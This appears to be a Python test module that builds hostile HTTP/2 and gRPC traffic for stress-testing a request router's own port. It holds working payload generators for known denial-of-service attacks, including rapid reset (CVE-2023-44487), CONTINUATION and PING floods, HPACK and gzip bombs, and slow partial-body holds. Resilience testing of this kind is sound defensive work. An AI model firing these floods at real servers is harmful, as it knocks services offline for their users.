"""The attacks by name: what a hostile peer sends to the picker's gRPC port. Opens no socket.

An attack is a generator of blobs that one connection sends after its greeting; most have no end.
"""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import chain, repeat
from typing import TypeAlias

from hpack import Encoder, NeverIndexedHeaderTuple

from epp.extproc.modes import BodyMode
from epp.request.queueing import FAIRNESS_HEADER, TTFT_SLO_HEADER
from epp.rpc.http2 import frames
from epp.rpc.http2.frames import PREFACE, frame, window_update
from epp.schedule.admission import OBJECTIVE_HEADERS
from tests.kit.conversation import POST, request_body, request_headers, with_metadata, with_modes
from tests.kit.http2 import message, settings
from tests.kit.rawpeer import PROCESS
from tests.kit.replicas import chat_body

Blobs: TypeAlias = Callable[[], Iterable[bytes]]
MIB = 1 << 20
#: Of the requests that wait: how many priorities, `p0` the lowest, their model, and the length of a body.
PRIORITIES, BUSY_MODEL, QUEUED_BYTES = 5, "busy", 4_000
LOG = b"/envoy.service.accesslog.v3.AccessLogService/StreamAccessLogs"
WATCH = b"/grpc.health.v1.Health/Watch"


def fields(*named: tuple[bytes, bytes], huffman: bool = False) -> bytes:
    """Header fields that leave the dynamic table as it was."""
    return Encoder().encode([NeverIndexedHeaderTuple(*field) for field in named], huffman=huffman)


def call(path: bytes = PROCESS, *extra: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call."""
    named = ((b":path", path), (b":authority", b"picker"), (b"content-type", b"application/grpc"), *extra)
    return b"\x83\x86" + fields(*named)


CALL = call()


def unlike(number: int) -> bytes:
    """A field that makes a block unlike all others, so that a cache of blocks does not help."""
    digits = b"%d" % number
    return b"\0\1z" + bytes([len(digits)]) + digits


def headers(number: int, block: bytes = CALL, *, end: bool = False) -> bytes:
    """HEADERS in one frame."""
    flags = frames.END_HEADERS | (frames.END_STREAM if end else 0)
    return frame(frames.HEADERS, flags, number, block)


def data(number: int, payload: bytes) -> bytes:
    """DATA in frames that every peer takes."""
    size = frames.DEFAULT_FRAME_BYTES
    pieces = (payload[at : at + size] for at in range(0, len(payload), size))
    return b"".join(frame(frames.DATA, 0, number, piece) for piece in pieces)


def cancelled(number: int, block: bytes = CALL, payload: bytes = b"\0") -> bytes:
    """A stream that is reset once it has sent its payload."""
    return headers(number, block) + data(number, payload) + frames.rst_stream(number, frames.ErrorCode.CANCEL)


def again(unit: bytes, first: bytes = b"") -> Blobs:
    """The same bytes without end, after ``first``."""
    blob = unit * max(1, 128 * 1024 // len(unit))
    return lambda: chain([first], repeat(blob))


def streams(make: Callable[[int], bytes], at_once: int = 200, first: bytes = b"") -> Blobs:
    """One stream after the other until their numbers are used up, so many in a blob."""

    def blobs() -> Iterator[bytes]:
        yield first
        for start in range(3, frames.STREAM_MASK - 2 * at_once, 2 * at_once):
            yield b"".join(make(number) for number in range(start, start + 2 * at_once, 2))

    return blobs


def lazily(make: Callable[[], Blobs]) -> Blobs:
    """For blobs that take long to make: made once, when they are asked for."""
    made = cache(make)
    return lambda: iter(made()())


def calls(messages: Callable[[], bytes], count: int = 4096, block: bytes = CALL) -> Blobs:
    """So many calls that have sent this and stay open; by default as many as a connection may have."""

    def make() -> Blobs:
        sent = messages()
        return lambda: (headers(number, block) + data(number, sent) for number in range(1, 2 * count, 2))

    return lazily(make)


def chat(**more: str) -> bytes:
    """The message of a chat's request headers, whose body is to come in one."""
    return message(with_modes(request_headers({**POST, **more}), BodyMode.BUFFERED).SerializeToString())


def queued(count: int) -> Blobs:
    """Calls for a busy model: of all `PRIORITIES` and many flows, every fourth with a deadline of 90 to 120 s."""

    def make() -> Blobs:
        return lambda: (headers(2 * at + 1) + data(2 * at + 1, _queued(at)) for at in range(count))

    return lazily(make)


def _queued(at: int) -> bytes:
    more = {TTFT_SLO_HEADER: str(90_000 + 30 * at)} if at % 4 == 0 else {}
    more |= {OBJECTIVE_HEADERS[0]: f"p{at % PRIORITIES}", FAIRNESS_HEADER: f"flow-{at % 97}"}
    asked = {**chat_body(f"{at} ".ljust(QUEUED_BYTES - 100, "a")), "model": BUSY_MODEL}
    return chat(**more) + message(body(json.dumps(asked).encode()))


def metadata() -> bytes:
    """Request headers with 150,000 fields of filter metadata, as protobuf."""
    values = {str(number): number for number in range(150_000)}
    return with_metadata(with_modes(request_headers(), BodyMode.BUFFERED), "a", values).SerializeToString()


def body(payload: bytes) -> bytes:
    """A whole request body, as protobuf."""
    return request_body(payload, end=True).SerializeToString()


def gzipped_bodies() -> Blobs:
    """Calls of one compressed message each."""
    block, bomb = (
        call(PROCESS, (b"grpc-encoding", b"gzip")),
        message(gzip.compress(body(bytes(31 * MIB)), 9), flag=1),
    )
    return streams(lambda number: headers(number, block) + data(number, bomb), 4)


def huffman() -> Blobs:
    """Blocks of 7 KB in the characters with the longest codes."""
    draw = random.Random(1)
    values = [bytes(draw.choices(b"<>~^|{}", k=7000)) for _ in range(8)]
    long = [fields((b"a", value), huffman=True) for value in values]
    return streams(lambda number: cancelled(number, CALL + long[number // 2 % 8] + unlike(number)), 10)


def big_log() -> Blobs:
    """The access log's messages of a million empty entries."""
    block, entries = call(LOG), message(b"\x12\x80\x80\x80\x01" + b"\x0a\0" * MIB)
    return streams(lambda number: headers(number, block) + data(number, entries), 1)


@dataclass(frozen=True)
class Flood:
    """One attack.

    Attributes:
        what: it is, with its CVE where it has one.
        blobs: made anew for each connection.
        holds: once all is sent the connection is kept; otherwise there is a new one.
        greeting: sent first.
        raw: without TLS, also where the listener speaks it; then the first bytes of a handshake are sent.
        all_places: on more connections than the listener takes, whatever was asked for.
    """

    what: str
    blobs: Blobs
    holds: bool = False
    greeting: bytes = PREFACE + settings(initial_window_size=1 << 30) + window_update(0, 1 << 30)
    raw: bool = False
    all_places: bool = False


#: A call of which a byte of a long message has come, and one that is no gRPC.
_PART = headers(1) + data(1, message(bytes(31 * MIB))[:6])
_PLAIN = b"\x83\x86" + fields((b":path", b"/x"), (b"content-type", b"text/plain"))
#: An entry of 3.9 KB for the dynamic table; after it one byte stands for it.
_ENTRY = cancelled(1, CALL + Encoder().encode([(b"a", b"v" * 3900)], huffman=False))
_EMPTY_MESSAGES = data(1, bytes(5 * 3000))
_UNENDED = frame(frames.HEADERS, 0, 1, CALL)

# fmt: off
FLOODS = {
    # Streams that come to nothing.
    "rapid-reset": Flood("CVE-2023-44487", streams(lambda number: cancelled(number, payload=b""))),
    "made-you-reset": Flood(
        "CVE-2025-8671", streams(lambda number: headers(number) + window_update(number, 0))),
    "not-grpc": Flood("text/plain, so 415", streams(lambda number: headers(number, _PLAIN, end=True))),
    # Frames that ask for work and bring nothing.
    "continuation": Flood(
        "CVE-2024-27316: CONTINUATION without an end", again(frame(frames.CONTINUATION, 0, 1), _UNENDED)),
    "settings": Flood("CVE-2019-9515", again(frame(frames.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 20))),
    "ping": Flood("CVE-2019-9512", again(frame(frames.PING, 0, 0, bytes(8)))),
    "priority": Flood("CVE-2019-9513", again(frame(frames.PRIORITY, 0, 3, b"\0\0\0\5\1"))),
    "empty-data": Flood("CVE-2019-9518", again(frame(frames.DATA, 0, 1), headers(1))),
    "unknown-frames": Flood("of a type that is not defined", again(frame(77, 0, 1, b"x"))),
    "window-connection": Flood(
        "WINDOW_UPDATE of 1 byte", again(window_update(0, 1)), greeting=PREFACE + settings()),
    "one-byte-data": Flood("a long message, byte by byte", again(frame(frames.DATA, 0, 1, b"\0"), _PART)),
    # Messages.
    "empty-messages": Flood("3,000 empty ones a frame", again(_EMPTY_MESSAGES, headers(1))),
    "log-entries": Flood("a million empty ones in an access log's message", lazily(big_log)),
    "gzip-body": Flood("a body of 31 MiB in 31 KB", lazily(gzipped_bodies)),
    # Header blocks.
    "hpack-huffman": Flood("7 KB of Huffman's longest codes", lazily(huffman)),
    "hpack-bomb": Flood(
        "CVE-2016-6581: 60 KB by 15 references",
        streams(lambda number: headers(number, CALL + b"\xbe" * 15), first=_ENTRY)),
    "hpack-fields": Flood(
        "250 indexed fields",
        streams(lambda number: cancelled(number, CALL + b"\x90" * 250 + unlike(number)), 50)),
    # Connections.
    "reconnect": Flood("connections that greet and go", tuple),
    "first-words": Flood(
        "all places, stopped within a TLS handshake or the preface", tuple, holds=True, greeting=b"PRI",
        raw=True, all_places=True),
    # What waits, and is held in memory.
    "open-streams": Flood("streams without a message", calls(bytes), holds=True),
    "waiting-headers": Flood("calls whose bodies do not come", calls(chat), holds=True),
    "long-headers": Flood("request headers of 3 MiB", calls(lambda: chat(big="a" * 3 * MIB), 20), holds=True),
    "long-metadata": Flood("150,000 fields of metadata", calls(lambda: message(metadata()), 20), holds=True),
    "partial-bodies": Flood(
        "bodies of 3 MiB without their last byte",
        calls(lambda: chat() + message(body(bytes(3 * MIB)))[:-1], 20), holds=True),
    "zero-window": Flood(
        "refusals that may not be sent",
        calls(lambda: chat() + message(body(b'{"model": "%s"' % (b"x" * 3000)))), holds=True,
        greeting=PREFACE + settings(initial_window_size=0)),
    "queue": Flood("1,000 requests that find no room, for each connection", queued(1_000), holds=True),
    "health-watches": Flood(
        "streams of the health service", calls(lambda: message(b""), block=call(WATCH)), holds=True),
}
